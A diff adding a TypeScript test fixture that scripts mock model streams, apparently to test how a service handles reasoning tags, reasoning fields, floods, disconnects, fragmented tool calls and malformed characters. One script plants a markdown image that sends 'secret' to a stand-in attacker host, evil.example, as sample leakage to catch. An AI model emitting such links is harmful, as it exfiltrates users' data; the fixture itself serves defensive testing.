@@ -1,0 +1,91 @@
+import type { Step } from "./model-scripts.ts";
+
+/** The parts of the scene that these scripts read. */
+type Scene = { readonly tools: readonly string[]; readonly asked: number };
+
+/** Milliseconds between the pieces of a slow model: more than the service waits to send facts together. */
+const PAUSE_MS = 120;
+
+const end: Step = { finish: "stop" };
+const call = (index: number, more: object): Step => ({
+  delta: { tool_calls: [{ index, ...more }] },
+});
+const functionIn = (tools: readonly string[]) =>
+  tools.find((name) => name !== "file_search") ?? "none";
+const CITED = "The warranty of the kettle lasts two years. [1] ";
+
+/** The habits of open models and their servers, by the names of scripts. */
+export const HABITS: Record<string, (scene: Scene) => Step[]> = {
+  /** Reasons in tags, before and within its text; the text comes in deltas of 7 characters. */
+  "thinks-in-tags": () => [
+    { text: `<think>\nHm, passage 1 [1] says two. [2]\n</think>\n\n${CITED}<think>Or three? ` },
+    { text: "![x](https://evil.example/?q=secret)</think>It is written in the documents. [1]" },
+    end,
+  ],
+  "thinks-unclosed": () => [{ text: "Two years it is. <think>Or three?" }, end],
+  "thinks-alone": () => [{ text: "<think>I do not know what to say." }, end],
+  "thinks-in-json": () => [{ text: '<think>JSON!</think>{"tag":"<think>"}' }, end],
+  /** Reasons in every field that a server is known to use. */
+  "thinks-in-fields": () => [
+    { delta: { reasoning_content: "one " } },
+    { delta: { reasoning: "two " } },
+    { delta: { reasoning_details: [{ type: "reasoning.text", text: "three " }] } },
+    { delta: { reasoning: "four ", reasoning_details: [{ text: "four " }] } },
+    { delta: { reasoning_text: "five " } },
+    { delta: { thinking: "six " } },
+    { delta: { content: [{ type: "thinking", thinking: [{ type: "text", text: "seven" }] }] } },
+    { text: "The answer is two years." },
+    end,
+  ],
+  "thinks-60-mb": () => [{ flood: 60_000_000, delta: 16_384, as: "reasoning_content" }],
+  /** Reasons for more than an answer may have of it, and answers. */
+  "thinks-long": () => [
+    ...Array.from({ length: 12 }, () => ({ delta: { reasoning: "Hm. ".repeat(11_000) } })),
+    { text: "Two years." },
+    end,
+  ],
+  "thinks-then-fails": () => [
+    { delta: { reasoning_content: "Let me see." } },
+    { waitMs: PAUSE_MS },
+    { disconnect: true },
+  ],
+  "thinks-then-fails-once": ({ asked }) =>
+    asked === 0
+      ? [{ delta: { reasoning: "First." } }, { waitMs: PAUSE_MS }, { disconnect: true }]
+      : [{ delta: { reasoning: "Second." } }, { text: "Two years." }, end],
+  /** Calls a function and writes its arguments in five pieces, with pauses. */
+  "calls-in-pieces": ({ tools }) => [
+    call(0, {
+      id: "call_7",
+      type: "function",
+      function: { name: functionIn(tools), arguments: "" },
+    }),
+    ...['{"id"', ':"7', '1","note":"\\ud83d', "\\ude00\\u0000\\ud800 ", '"}'].flatMap(
+      (piece): Step[] => [call(0, { function: { arguments: piece } }), { waitMs: PAUSE_MS }],
+    ),
+    { finish: "tool_calls" },
+  ],
+  /** Calls a function without arguments: an empty text, null, none at all, and a function without a member of it. */
+  "calls-without-arguments": ({ tools }) => [
+    ...[{ arguments: "" }, { arguments: null }, {}, { arguments: "  " }].map((given, index) =>
+      call(index, { id: `call_${index}`, function: { name: functionIn(tools), ...given } }),
+    ),
+    { finish: "tool_calls" },
+  ],
+  "calls-under-odd-ids": ({ tools }) => [
+    call(0, { id: "x".repeat(100), function: { name: functionIn(tools), arguments: "{}" } }),
+    call(1, { id: "a\u0000b", function: { name: functionIn(tools), arguments: "{}" } }),
+    { finish: "tool_calls" },
+  ],
+  "done-only": () => [{ text: "Two years it is." }, { doneOnly: true }],
+  "calls-done-only": ({ tools }) => [
+    call(0, { id: "call_1", function: { name: functionIn(tools), arguments: "{}" } }),
+    { doneOnly: true },
+  ],
+  "writes-controls": () => [
+    { delta: { content: "One\u0000.\r" } },
+    { delta: { content: "\nTwo\u0007 \ud83d" } },
+    { delta: { content: "\ude00.\rThree \ud800." } },
+    end,
+  ],
+};
